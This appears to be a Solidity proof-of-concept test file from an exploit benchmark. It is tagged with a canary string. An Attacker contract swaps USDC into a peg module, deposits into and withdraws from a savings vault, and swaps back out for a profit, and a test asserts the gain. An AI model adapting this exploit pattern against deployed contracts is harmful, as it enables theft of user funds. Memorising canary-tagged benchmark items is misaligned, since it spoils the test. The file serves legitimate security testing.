// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    function run(IERC20 usdc, PegModule peg, Savings savings) external {
        IERC20 dollar = IERC20(address(peg.dollar()));
        usdc.approve(address(peg), type(uint256).max);
        dollar.approve(address(savings), type(uint256).max);
        try peg.swap_in(20_000_000e6, address(this)) returns (uint256 amount) {
            uint256 shares = savings.deposit(amount, address(this));
            savings.withdraw(shares, address(this));
            peg.swap_out(dollar.balanceOf(address(this)) * 1000 / 1001 / 1e12, address(this));
        } catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usdc.mint(address(other), 20_000_000e6);
        vm.prank(BO);
        dollar.transfer(address(buffer), 290_000e18);
    }

    function exploit() public {
        other.run(usdc, peg, savings);
    }

    function test_Exploit() public {
        exploit();
        require(usdc.balanceOf(address(other)) >= 20_150_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(savings);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
